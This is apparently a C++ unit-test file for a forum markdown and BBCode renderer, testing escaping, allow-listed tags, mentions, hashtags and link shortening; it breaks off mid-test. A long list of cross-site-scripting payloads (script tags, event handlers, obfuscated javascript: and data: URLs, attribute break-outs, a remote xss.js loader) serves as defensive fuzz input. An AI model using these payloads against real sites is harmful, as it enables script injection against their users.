#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <cstdlib>
#include <optional>
#include <regex>
#include <string>
#include <vector>

#include "agora/text/markdown.hpp"

using agora::text::MarkdownContext;
using agora::text::render_markdown;
using namespace std::string_literals;

namespace {

std::string lower(std::string s) {
  for (auto& c : s) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  }
  return s;
}

// A site with members "bob" (7) and "alice" (9), and a shortener that knows every URL but
// those containing "noshort".
MarkdownContext demo_context() {
  MarkdownContext context;
  context.site_url = "https://demo.example.org";
  context.site_hosts = {"demo.example.org"};
  context.jump_url = "http://microco.sm/out/";
  context.find_profile = [](std::string_view name) -> std::optional<std::int64_t> {
    if (lower(std::string(name)) == "bob") return 7;
    if (lower(std::string(name)) == "alice") return 9;
    return std::nullopt;
  };
  context.shorten = [](const std::string& url) {
    return url.find("noshort") == std::string::npos ? "k3"s : ""s;
  };
  return context;
}

// No shortening, no mentions: links keep their URLs.
MarkdownContext plain_context() {
  MarkdownContext context;
  context.site_url = "https://demo.example.org";
  context.site_hosts = {"demo.example.org"};
  return context;
}

// Resolves every name and shortens to a hostile code: nothing the callbacks return may break
// out of an attribute either.
MarkdownContext generous_context() {
  MarkdownContext context = demo_context();
  context.find_profile = [](std::string_view) -> std::optional<std::int64_t> { return 1; };
  context.shorten = [](const std::string&) { return "\" onmouseover=\"alert(1)"s; };
  return context;
}

std::string html(std::string_view markdown, const MarkdownContext& context = plain_context()) {
  return render_markdown(markdown, context).html;
}

bool valid_utf8(std::string_view s) {
  for (std::size_t i = 0; i < s.size();) {
    const auto b = static_cast<unsigned char>(s[i]);
    std::size_t n = 0;
    char32_t cp = 0;
    if (b < 0x80) {
      ++i;
      continue;
    } else if (b >= 0xC2 && b <= 0xDF) {
      n = 1;
      cp = b & 0x1F;
    } else if (b >= 0xE0 && b <= 0xEF) {
      n = 2;
      cp = b & 0x0F;
    } else if (b >= 0xF0 && b <= 0xF4) {
      n = 3;
      cp = b & 0x07;
    } else {
      return false;
    }
    if (i + n >= s.size()) return false;
    for (std::size_t k = 1; k <= n; ++k) {
      const auto c = static_cast<unsigned char>(s[i + k]);
      if ((c & 0xC0) != 0x80) return false;
      cp = (cp << 6) | (c & 0x3F);
    }
    if ((n == 2 && cp < 0x800) || (n == 3 && (cp < 0x10000 || cp > 0x10FFFF))) return false;
    if (cp >= 0xD800 && cp <= 0xDFFF) return false;
    i += n + 1;
  }
  return true;
}

const std::vector<std::string> kAllowedTags = {
    "p",     "br",     "hr",    "h1",   "h2",  "h3",         "h4", "h5", "h6",
    "em",    "strong", "del",   "code", "pre", "blockquote", "ul", "ol", "li",
    "table", "thead",  "tbody", "tr",   "th",  "td",         "a",  "img"};

bool contains(const std::vector<std::string>& list, const std::string& item) {
  return std::find(list.begin(), list.end(), item) != list.end();
}

std::vector<std::string> allowed_attributes(const std::string& tag) {
  if (tag == "a") return {"href", "title", "rel", "target"};
  if (tag == "img") return {"class", "src", "alt", "title"};
  if (tag == "th" || tag == "td") return {"align"};
  if (tag == "ol") return {"start"};
  return {};
}

// Decodes the character references this renderer writes (and any other numeric one).
std::string decode_entities(std::string_view s) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] != '&') {
      out += s[i];
      continue;
    }
    const std::size_t semi = s.find(';', i);
    if (semi == std::string_view::npos) {
      out += s[i];
      continue;
    }
    const std::string name(s.substr(i + 1, semi - i - 1));
    if (name == "amp")
      out += '&';
    else if (name == "lt")
      out += '<';
    else if (name == "gt")
      out += '>';
    else if (name == "quot")
      out += '"';
    else if (!name.empty() && name[0] == '#') {
      const bool hex = name.size() > 1 && (name[1] == 'x' || name[1] == 'X');
      const long value = std::strtol(name.c_str() + (hex ? 2 : 1), nullptr, hex ? 16 : 10);
      out += static_cast<char>(value < 128 ? value : '?');
    } else {
      out += s.substr(i, semi - i + 1);
    }
    i = semi;
  }
  return out;
}

// Every `<` starts a tag (text is escaped); every tag is allow-listed with allow-listed
// attributes; non-void tags close in LIFO order; URL attributes carry no script scheme.
::testing::AssertionResult well_formed(const std::string& out) {
  std::vector<std::string> open;
  for (std::size_t i = out.find('<'); i != std::string::npos; i = out.find('<', i + 1)) {
    const std::size_t end = out.find('>', i);
    if (end == std::string::npos)
      return ::testing::AssertionFailure() << "unterminated tag at " << i;
    std::string_view tag(out.data() + i + 1, end - i - 1);
    const bool closing = !tag.empty() && tag.front() == '/';
    if (closing) tag.remove_prefix(1);
    std::size_t n = 0;
    while (n < tag.size() && ((tag[n] >= 'a' && tag[n] <= 'z') || (tag[n] >= '0' && tag[n] <= '9')))
      ++n;
    const std::string name(tag.substr(0, n));
    if (!contains(kAllowedTags, name)) {
      return ::testing::AssertionFailure()
             << "tag not allowed: <" << std::string(tag.substr(0, 40)) << ">";
    }
    const bool is_void = name == "br" || name == "hr" || name == "img";
    if (closing) {
      if (is_void || open.empty() || open.back() != name) {
        return ::testing::AssertionFailure() << "unbalanced </" << name << "> at " << i;
      }
      open.pop_back();
      continue;
    }
    // Attributes: name="value" pairs, then an optional " /" for void tags.
    std::string_view rest = tag.substr(n);
    const auto allowed = allowed_attributes(name);
    while (true) {
      while (!rest.empty() && rest.front() == ' ') rest.remove_prefix(1);
      if (rest.empty() || rest == "/") break;
      const std::size_t eq = rest.find("=\"");
      if (eq == std::string_view::npos)
        return ::testing::AssertionFailure() << "bad attribute in <" << name << ">";
      const std::string attribute(rest.substr(0, eq));
      if (!contains(allowed, attribute)) {
        return ::testing::AssertionFailure()
               << "attribute not allowed: " << name << " " << attribute;
      }
      const std::size_t close = rest.find('"', eq + 2);
      if (close == std::string_view::npos)
        return ::testing::AssertionFailure() << "unterminated attribute";
      const std::string value = decode_entities(rest.substr(eq + 2, close - eq - 2));
      if (attribute == "href" || attribute == "src") {
        std::string squeezed;
        for (char c : value) {
          if (static_cast<unsigned char>(c) > 0x20) squeezed += c;
        }
        squeezed = lower(squeezed);
        for (const char* scheme : {"javascript:", "vbscript:", "data:"}) {
          if (squeezed.find(scheme) != std::string::npos) {
            return ::testing::AssertionFailure() << "script URL in " << attribute << ": " << value;
          }
        }
      }
      if (attribute == "align" && value != "left" && value != "center" && value != "right") {
        return ::testing::AssertionFailure() << "bad align " << value;
      }
      if (attribute == "start" && value.find_first_not_of("0123456789") != std::string::npos) {
        return ::testing::AssertionFailure() << "bad start " << value;
      }
      rest.remove_prefix(close + 1);
    }
    if (!is_void) open.push_back(name);
  }
  if (!open.empty()) return ::testing::AssertionFailure() << "unclosed <" << open.back() << ">";
  return ::testing::AssertionSuccess();
}

::testing::AssertionResult harmless(const std::string& out) {
  static const std::regex forbidden_tag("<\\s*/?\\s*(script|iframe|style|object|svg)",
                                        std::regex::icase);
  static const std::regex handler("<[^>]*\\son[a-z]+\\s*=", std::regex::icase);
  // std::regex recurses per character; check tag by tag to keep its stack small.
  for (std::size_t i = out.find('<'); i != std::string::npos; i = out.find('<', i + 1)) {
    const std::size_t end = out.find('>', i);
    const std::string tag =
        out.substr(i, end == std::string::npos ? std::string::npos : end - i + 1);
    if (std::regex_search(tag, forbidden_tag))
      return ::testing::AssertionFailure() << "forbidden tag " << tag;
    if (std::regex_search(tag, handler))
      return ::testing::AssertionFailure() << "event handler in " << tag;
  }
  if (!valid_utf8(out)) return ::testing::AssertionFailure() << "invalid UTF-8";
  return well_formed(out);
}

std::string repeat(std::string_view s, std::size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (std::size_t i = 0; i < n; ++i) out += s;
  return out;
}

std::vector<std::string> hostile_corpus() {
  std::vector<std::string> corpus = {
      // Script tags, every case, with and without attributes.
      "<script>alert(1)</script>",
      "<SCRIPT>alert(1)</SCRIPT>",
      "<ScRiPt>alert(1)</sCrIpT>",
      "<script src=http://xss.rocks/xss.js></script>",
      "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
      "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
      "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
      "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
      "<scr<script>ipt>alert(1)</script>",
      "<<script>script>alert(1)<</script>/script>",
      "\\<script>alert(1)\\</script>",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;alert(1)&#60;/script&#62;",
      "<scr\0ipt>alert(1)</scr\0ipt>"s,
      "text\n\n<script>\nalert(1)\n</script>\n\nmore",
      // Images and other elements with handlers.
      "<img src=x onerror=alert(1)>",
      "<img src=x onerror=alert(1)//",
      "<IMG SRC=\"javascript:alert('XSS');\">",
      "<IMG SRC=javascript:alert('XSS')>",
      "<IMG SRC=JaVaScRiPt:alert('XSS')>",
      "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
      "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
      "<IMG SRC=# onmouseover=\"alert('xxs')\">",
      "<IMG SRC= onmouseover=\"alert('xxs')\">",
      "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
      "<img src=x "
      "onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
      "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#"
      "0000039\">",
      "<IMG "
      "SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
      "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
      "<IMG SRC=\"jav\tascript:alert('XSS');\">",
      "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
      "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
      "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
      "<img src=\"http://x.com/a.png\" alt=\"x\" onload=\"alert(1)\">",
      "<svg/onload=alert('XSS')>",
      "<svg onload=alert(1)//",
      "<svg><script>alert(1)</script></svg>",
      "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
      "<body onload=alert(1)>",
      "<div onmouseover=\"alert(1)\">x</div>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=\"alert(1)\"></video>",
      "<form><button formaction=javascript:alert(1)>x</button></form>",
      "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
      "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
      // Other dangerous elements.
      "<iframe src=http://xss.rocks/scriptlet.html <",
      "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
      "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
      "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
      "<object data=\"javascript:alert(1)\"></object>",
      "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" type=\"image/svg+xml\">",
      "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
      "<style>body{display:none}</style>",
      "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
      "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
      "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
      "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
      "<DIV STYLE=\"width: expression(alert('XSS'));\">",
      "<BASE HREF=\"javascript:alert('XSS');//\">",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"  javascript:alert(1)\">click</a>",
      // HTML comments.
      "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
      "<!-- comment --><script>alert(1)</script>",
      "<!-- <script>alert(1)</script> -->",
      "a <!-- b --> c",
      // Markdown links with script schemes and obfuscations.
      "[x](javascript:alert(1))",
      "[x](JAVASCRIPT:alert(1))",
      "[x](JaVaScRiPt:alert(1))",
      "[x]( javascript:alert(1))",
      "[x](<javascript:alert(1)>)",
      "[x](<  javascript:alert(1)>)",
      "[x](java&#x09;script:alert(1))",
      "[x](java&#10;script:alert(1))",
      "[x](java&#13;script:alert(1))",
      "[x](&#106;avascript:alert(1))",
      "[x](&#x6A;avascript:alert(1))",
      "[x](javascript&#58;alert(1))",
      "[x](javascript&colon;alert(1))",
      "[x](&#0;javascript:alert(1))",
      "[x](&#1;javascript:alert(1))",
      "[x](java\0script:alert(1))"s,
      "[x](javascript\0:alert(1))"s,
      "[x](\x01javascript:alert(1))",
      "[x](\x1fjavascript:alert(1))",
      "[x](java\\script:alert(1))",
      "[x](javascript://%0Aalert(1))",
      "[x](javascript:alert(1) \"title\")",
      "[x](vbscript:msgbox(1))",
      "[x](VBScript:msgbox(1))",
      "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      "[x](DATA:text/html,<script>alert(1)</script>)",
      "[x](file:///etc/passwd)",
      "[x](//evil.com)",
      "[x](/\\evil.com)",
      "[x](\\\\evil.com)",
      "[x](https:evil.com)",
      "[x](http://x.com/\" onmouseover=\"alert(1))",
      "[x](http://x.com/ \"a\\\" onmouseover=\\\"alert(1)\")",
      "[x](mailto:a@b.com?subject=\"onmouseover=\"alert(1))",
      "[![img](javascript:alert(1))](javascript:alert(2))",
      // Images with script schemes and attribute break-outs.
      "![x](javascript:alert(1))",
      "![x](JaVaScRiPt:alert(1))",
      "![x](data:image/svg+xml;base64,PHN2Zz4=)",
      "![x](vbscript:x)",
      "![x](mailto:a@b.com)",
      "![x\" onerror=\"alert(1)](http://x.com/a.png)",
      "![x](http://x.com/a.png\" onerror=\"alert(1))",
      "![x](http://x.com/a.png \"t\\\" onerror=\\\"alert(1)\")",
      "![a](http://x.com/a.png)\n<img src=x onerror=alert(1)>",
      // Reference definitions and autolinks.
      "[x][1]\n\n[1]: javascript:alert(1)",
      "[x][1]\n\n[1]: <javascript:alert(1)> \"t\"",
      "![x][1]\n\n[1]: data:text/html,alert(1)",
      "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
      "<javascript:alert(1)>",
      "<JAVASCRIPT:ALERT(1)>",
      "<vbscript:msgbox(1)>",
      "<data:text/html,alert(1)>",
      "<http://x.com/a\" onmouseover=\"alert(1)>",
      "http://evil.com/<script>alert(1)</script>",
      "http://x.com/\"onmouseover=\"alert(1)\"",
      "www.evil.com/\" onmouseover=\"alert(1)",
      "javascript:alert(1)",
      "foo@javascript.com:alert(1)",
      // Attribute break-outs in plain text.
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "\"><script>alert(1)</script>",
      // Broken and nested markdown.
      "[a](b](c)",
      "[a](b)(c)[d](e",
      "**unbalanced",
      "*a **b* c**",
      "__a *b__ c*",
      "~~a **b~~ c**",
      "`unclosed code",
      "```\" onload=\"alert(1)\n<script>\n```",
      "```javascript:alert(1)\nx\n```",
      "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
      "| a |\n|:-:|\n| x |",
      "- a\n  - b\n    - c\n      > d\n      > - e",
      "1. a\n2) b\n99999999. c",
      // BBCode.
      "[url=javascript:alert(1)]x[/url]",
      "[url=\"javascript:alert(1)\"]x[/url]",
      "[url]javascript:alert(1)[/url]",
      "[img]javascript:alert(1)[/img]",
      "[img]\" onerror=\"alert(1)[/img]",
      "[email]javascript:alert(1)[/email]",
      "[email=x\" onmouseover=\"alert(1)]x[/email]",
      "[quote]<script>alert(1)</script>[/quote]",
      "[quote=\"><script>alert(1)</script>]x[/quote]",
      "[color=red\" onmouseover=\"alert(1)]x[/color]",
      "[b][i][u][s]x[/b]",
      "[list]\n[*]<script>\n[*][url=javascript:x]y[/url]\n[/list]",
      // Mentions and hashtags that carry markup.
      "@<script>alert(1)</script>",
      "+\"onmouseover=\"alert(1)",
      "#<script> #tag\"onmouseover=x",
      // Malformed UTF-8 and control characters.
      "\xC0\xBCscript\xC0\xBE"
      "alert(1)\xC0\xBC/script\xC0\xBE",
      "\xE0\x80\xBCscript\xE0\x80\xBE",
      "\xED\xA0\x80\xED\xB0\x80 lone surrogates",
      "\xF8\x88\x80\x80\x80 five bytes \xFF\xFE",
      "\xFF\xFE<\0s\0c\0r\0i\0p\0t\0>"s,
      "a\0b\x01\x02\x7f\xC2\x80"
      "c"s,
      "\xE2\x80\xAE"
      "evil\xE2\x80\xAC &#x202E;reversed &#xD800; &#0; &#x110000;",
      "truncated \xE2\x82",
  };
  // Large and deeply nested inputs: the pipeline must stay linear.
  corpus.push_back(repeat(">", 1000) + " deep");
  corpus.push_back(repeat("> ", 1000) + "deep");
  corpus.push_back(repeat("*", 1 << 20));
  corpus.push_back(repeat("[", 100000));
  corpus.push_back(repeat("[", 50000) + "a" + repeat("](javascript:x)", 50000));
  corpus.push_back(repeat("![[]()", 20000));
  corpus.push_back(repeat("*a **a ", 20000) + "b" + repeat(" a** a*", 20000));
  corpus.push_back(repeat("[a](<b", 20000));
  corpus.push_back("a" + repeat("<!--", 20000));
  corpus.push_back("|" + repeat("a|", 20000) + "\n|" + repeat("-|", 20000) + "\n|x|\n");
  corpus.push_back("|a|b|\n|-|-|\n" + repeat("|x\n", 20000));
  corpus.push_back(repeat("[quote]", 20000) + "x" + repeat("[/quote]", 20000));
  corpus.push_back(repeat("@a #b ", 20000));
  {
    std::string lists;
    for (int i = 0; i < 200; ++i) lists += std::string(2 * i, ' ') + "- item\n";
    corpus.push_back(lists);
  }
  // Pseudo-random mixes of markdown syntax and attack fragments (fixed seed).
  const std::vector<std::string> pieces = {"<",
                                           ">",
                                           "[",
                                           "]",
                                           "(",
                                           ")",
                                           "!",
                                           "*",
                                           "_",
                                           "~~",
                                           "`",
                                           "```\n",
                                           "\n",
                                           "\n\n",
                                           "> ",
                                           "- ",
                                           "1. ",
                                           "|",
                                           "|-|",
                                           "#",
                                           "@",
                                           "+",
                                           "\"",
                                           "'",
                                           "&",
                                           "&#",
                                           ";",
                                           "\\",
                                           " ",
                                           "\t",
                                           "\0"s,
                                           "javascript:",
                                           "JaVaScRiPt:",
                                           "data:",
                                           "vbscript:",
                                           "script",
                                           "onerror=",
                                           "onload=",
                                           "http://",
                                           "//",
                                           "www.",
                                           "mailto:",
                                           "alert(1)",
                                           "<img",
                                           "<svg",
                                           "[url=",
                                           "[/url]",
                                           "[img]",
                                           "[/img]",
                                           "[quote]",
                                           "[/quote]",
                                           "\xC0",
                                           "\xE2\x80\xAE",
                                           "x"};
  std::uint32_t state = 12345;
  for (int n = 0; n < 60; ++n) {
    std::string mix;
    for (int k = 0; k < 300; ++k) {
      state = state * 1664525u + 1013904223u;
      mix += pieces[(state >> 8) % pieces.size()];
    }
    corpus.push_back(std::move(mix));
  }
  return corpus;
}

}  // namespace

TEST(Markdown, SpecExample) {
  EXPECT_EQ(html("Here is comment number 0"), "<p>Here is comment number 0</p>\n");
}

TEST(Markdown, EmptyInput) {
  const auto result = render_markdown("", demo_context());
  EXPECT_EQ(result.html, "");
  EXPECT_TRUE(result.mentions.empty());
  EXPECT_TRUE(result.links.empty());
}

TEST(Markdown, Emphasis) {
  EXPECT_EQ(
      html("*a* _b_ **c** __d__ ~~e~~ ~f~"),
      "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <del>e</del> ~f~</p>\n");
}

TEST(Markdown, HardLineBreaks) {
  EXPECT_EQ(html("one\ntwo\r\nthree"), "<p>one<br />\ntwo<br />\nthree</p>\n");
}

TEST(Markdown, Headings) {
  EXPECT_EQ(html("# one\n### three\n###### six"), "<h1>one</h1>\n<h3>three</h3>\n<h6>six</h6>\n");
}

TEST(Markdown, ThematicBreak) { EXPECT_EQ(html("a\n\n***"), "<p>a</p>\n<hr />\n"); }

TEST(Markdown, Lists) {
  EXPECT_EQ(html("- a\n- b"), "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n");
  EXPECT_EQ(html("1. a\n2. b"), "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n");
  EXPECT_EQ(html("3. c"), "<ol start=\"3\">\n<li>c</li>\n</ol>\n");
  EXPECT_EQ(html("- a\n\n- b"), "<ul>\n<li><p>a</p>\n</li>\n<li><p>b</p>\n</li>\n</ul>\n");
}

TEST(Markdown, BlocksNeedNoBlankLine) {
  EXPECT_EQ(html("para\n- item"), "<p>para</p>\n<ul>\n<li>item</li>\n</ul>\n");
  EXPECT_EQ(html("para\n> quoted"), "<p>para</p>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n");
}

TEST(Markdown, FencedCodeHasNoClass) {
  EXPECT_EQ(html("```js\nif (a < b && c) {}\n```"),
            "<pre><code>if (a &lt; b &amp;&amp; c) {}\n</code></pre>\n");
  EXPECT_EQ(html("`x <y>`"), "<p><code>x &lt;y&gt;</code></p>\n");
}

TEST(Markdown, Table) {
  EXPECT_EQ(
      html("| a | b | c |\n|:--|:-:|--:|\n| 1 | *2* | 3 |\n| 4 |"),
      "<table>\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"center\">b</th>\n"
      "<th align=\"right\">c</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"left\">1</td>\n"
      "<td align=\"center\"><em>2</em></td>\n<td align=\"right\">3</td>\n</tr>\n<tr>\n"
      "<td align=\"left\">4</td>\n<td align=\"center\"></td>\n<td align=\"right\"></td>\n"
      "</tr>\n</tbody>\n</table>\n");
}

TEST(Markdown, RawHtmlIsShownEscaped) {
  EXPECT_EQ(html("a <b>bold</b> & 'q'"), "<p>a &lt;b&gt;bold&lt;/b&gt; &amp; &#39;q&#39;</p>\n");
  EXPECT_EQ(html("<div>\nx\n</div>"), "<p>&lt;div&gt;<br />\nx<br />\n&lt;/div&gt;</p>\n");
}

TEST(Markdown, ShoutPrevention) {
  EXPECT_EQ(html("STOP SHOUTING!"), "<p>stop shouting!</p>\n");
  EXPECT_EQ(html("Not SHOUTING"), "<p>Not SHOUTING</p>\n");
  EXPECT_EQ(html("1234"), "<p>1234</p>\n");
}

TEST(Markdown, DropsControlCharactersAndRepairsUtf8) {
  EXPECT_EQ(html("a\0b\x01\x7f"
                 "c\td"s),
            "<p>abc\td</p>\n");
  EXPECT_EQ(
      html("\xC0\xBCx\xED\xA0\x80y\xE2\x82"),
      "<p>\xEF\xBF\xBD\xEF\xBF\xBDx\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBDy\xEF\xBF\xBD\xEF\xBF\xBD</"
      "p>\n");
  EXPECT_EQ(html("caf\xC3\xA9 \xF0\x9F\x98\x80"), "<p>caf\xC3\xA9 \xF0\x9F\x98\x80</p>\n");
  EXPECT_EQ(html("a\xE2\x80\xAE"
                 "b &#x202E;c &#1;d"),
            "<p>ab c d</p>\n");
}

TEST(Markdown, BareWwwGetsHttp) {
  EXPECT_EQ(html("see www.example.com now"),
            "<p>see <a href=\"http://www.example.com\" rel=\"nofollow\" target=\"_blank\">"
            "http://www.example.com</a> now</p>\n");
  EXPECT_EQ(
      html("[site](www.example.com/a)"),
      "<p><a href=\"http://www.example.com/a\" title=\"http://www.example.c...\" rel=\"nofollow\" "
      "target=\"_blank\">site</a></p>\n");
  EXPECT_EQ(html("`www.example.com`"), "<p><code>www.example.com</code></p>\n");
}

TEST(Markdown, BbcodeQuote) {
  // The line after `[/quote]` would be a lazy continuation of the quote without a blank line.
  EXPECT_EQ(html("[quote=bob]hello\nworld[/quote]\nafter"),
            "<blockquote>\n<p>hello<br />\nworld</p>\n</blockquote>\n<p>after</p>\n");
  EXPECT_EQ(html("[QUOTE]a[quote]b[/quote][/QUOTE]"),
            "<blockquote>\n<p>a</p>\n<blockquote>\n<p>b</p>\n</blockquote>\n</blockquote>\n");
}

TEST(Markdown, BbcodeInline) {
  EXPECT_EQ(html("[b]b[/B] [i]i[/i] [u]u[/u] [s]s[/s] [color=red]c[/color] [cite]who[/cite]said"),
            "<p><strong>b</strong> <em>i</em> <em>u</em> <del>s</del> c <em>who</em> said</p>\n");
  EXPECT_EQ(html("[b]unclosed and [/i] stray"), "<p>[b]unclosed and [/i] stray</p>\n");
}

TEST(Markdown, BbcodeLinksImagesAndLists) {
  EXPECT_EQ(html("[url=http://a.com/x]text[/url]"),
            "<p><a href=\"http://a.com/x\" title=\"http://a.com...\" rel=\"nofollow\" "
            "target=\"_blank\">text</a></p>\n");
  EXPECT_EQ(html("[url=\"https://demo.example.org/c/1\"]here[/url]"),
            "<p><a href=\"/c/1\">here</a></p>\n");
  EXPECT_EQ(
      html("[url]https://b.com[/url]"),
      "<p><a href=\"https://b.com\" rel=\"nofollow\" target=\"_blank\">https://b.com</a></p>\n");
  EXPECT_EQ(html("[img]http://i.com/a.png[/img]"),
            "<p><img class=\"ip\" src=\"http://i.com/a.png\" /></p>\n");
  EXPECT_EQ(html("[attach]12[/attach]"),
            "<p><a href=\"/attachments/12\">/attachments/12</a></p>\n");
  EXPECT_EQ(
      html("[email]a@b.com[/email] [email=c@d.com]ignored[/email]"),
      "<p><a href=\"mailto:a@b.com\">a@b.com</a> <a href=\"mailto:c@d.com\">c@d.com</a></p>\n");
  EXPECT_EQ(html("[list]\n[*]one\n[*]two\n[/list]"), "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n");
}

TEST(Markdown, Hashtags) {
  EXPECT_EQ(
      html("#tag and #Two_2, not #123 or x#y or `#code`"),
      "<p><a href=\"/search/?q=%23tag\">#tag</a> and <a href=\"/search/?q=%23Two_2\">#Two_2</a>, "
      "not #123 or x#y or <code>#code</code></p>\n");
  EXPECT_EQ(html("# heading"), "<h1>heading</h1>\n");
  EXPECT_EQ(html("- #a"), "<ul>\n<li><a href=\"/search/?q=%23a\">#a</a></li>\n</ul>\n");
}

TEST(Markdown, HashtagsOnAnotherHostAreAbsolute) {
  MarkdownContext context = plain_context();
  context.site_hosts.clear();
  EXPECT_EQ(html("#x", context),
            "<p><a href=\"https://demo.example.org/search/?q=%23x\" "
            "title=\"https://demo.example.org/search/...\" "
            "rel=\"nofollow\" target=\"_blank\">#x</a></p>\n");
}

TEST(Markdown, MentionsFound) {
  const auto result = render_markdown("hi @Bob, and +alice! and @bob again", demo_context());
  EXPECT_EQ(result.html,
            "<p>hi <a href=\"/profiles/7\">@Bob</a>, and <a href=\"/profiles/9\">@alice</a>! and "
            "<a href=\"/profiles/7\">@bob</a> again</p>\n");
  EXPECT_EQ(result.mentions, (std::vector<std::int64_t>{7, 9}));
}

TEST(Markdown, MentionsNotFoundOrNotText) {
  const auto result = render_markdown("@nobody `@bob` [@bob](/x) me@bob.com @bob's\n```\n@bob\n```",
                                      demo_context());
  EXPECT_EQ(result.html,
            "<p>@nobody <code>@bob</code> <a href=\"/x\">@bob</a> <a "
            "href=\"mailto:me@bob.com\">me@bob.com</a> "
            "@bob&#39;s</p>\n<pre><code>@bob\n</code></pre>\n");
  EXPECT_TRUE(result.mentions.empty());
}

TEST(Markdown, MentionTrailingPunctuationTrimmed) {
  const auto result = render_markdown("ask @bob?!... or @alice- (@bob)", demo_context());
  // `\S+` runs to the space, so "bob)" is the name looked up in the last one.
  EXPECT_EQ(result.html,
            "<p>ask <a href=\"/profiles/7\">@bob</a>?!... or <a href=\"/profiles/9\">@alice</a>- "
            "(@bob)</p>\n");
  EXPECT_EQ(result.mentions, (std::vector<std::int64_t>{7, 9}));
}

TEST(Markdown, MentionsWithoutLookup) { EXPECT_EQ(html("@bob"), "<p>@bob</p>\n"); }

TEST(Markdown, LongWordsGetSoftHyphens) {
  const std::string shy = "\xC2\xAD";
  const std::string a40(40, 'a');
  EXPECT_EQ(html(a40), "<p>" + a40 + shy + "</p>\n");
  EXPECT_EQ(html(a40 + a40 + "bb cc"), "<p>" + a40 + shy + a40 + shy + "bb cc</p>\n");
  EXPECT_EQ(html(std::string(39, 'a') + " " + a40),
            "<p>" + std::string(39, 'a') + " " + a40 + shy + "</p>\n");
  EXPECT_EQ(html("`" + a40 + "b`"), "<p><code>" + a40 + shy + "b</code></p>\n");
  EXPECT_EQ(html("```\n" + a40 + "b\n```"), "<pre><code>" + a40 + shy + "b\n</code></pre>\n");
  // Characters, not bytes.
  std::string e40;
  for (int i = 0; i < 40; ++i) e40 += "\xC3\xA9";
  EXPECT_EQ(html(e40 + "x"), "<p>" + e40 + shy + "x</p>\n");
}

TEST(Markdown, SiteLinksBecomeRelative) {
  const auto result = render_markdown(
      "[a](https://demo.example.org/conversations/1?x=1#c2) [b](http://DEMO.example.org) "
      "https://demo.example.org/p [c](https://demo.example.org:443//evil.com)",
      demo_context());
  EXPECT_EQ(result.html,
            "<p><a href=\"/conversations/1?x=1#c2\">a</a> <a href=\"/\">b</a> <a href=\"/p\">"
            "https://demo.example.org/p</a> <a href=\"/evil.com\">c</a></p>\n");
  EXPECT_TRUE(result.links.empty());
}

TEST(Markdown, ExternalLinksShortenedWithTitle) {
  const auto result = render_markdown(
      "[text](http://other.com/page) <https://other.com/page> http://noshort.com/x "
      "[again](http://other.com/page) [already](http://microco.sm/out/zz)",
      demo_context());
  EXPECT_EQ(
      result.html,
      "<p><a href=\"http://microco.sm/out/k3\" title=\"http://other.com/...\" rel=\"nofollow\" "
      "target=\"_blank\">text</a> <a href=\"http://microco.sm/out/k3\" rel=\"nofollow\" "
      "target=\"_blank\">https://other.com/page</a> <a href=\"http://noshort.com/x\" "
      "rel=\"nofollow\" "
      "target=\"_blank\">http://noshort.com/x</a> <a href=\"http://microco.sm/out/k3\" "
      "title=\"http://other.com/...\" rel=\"nofollow\" target=\"_blank\">again</a> "
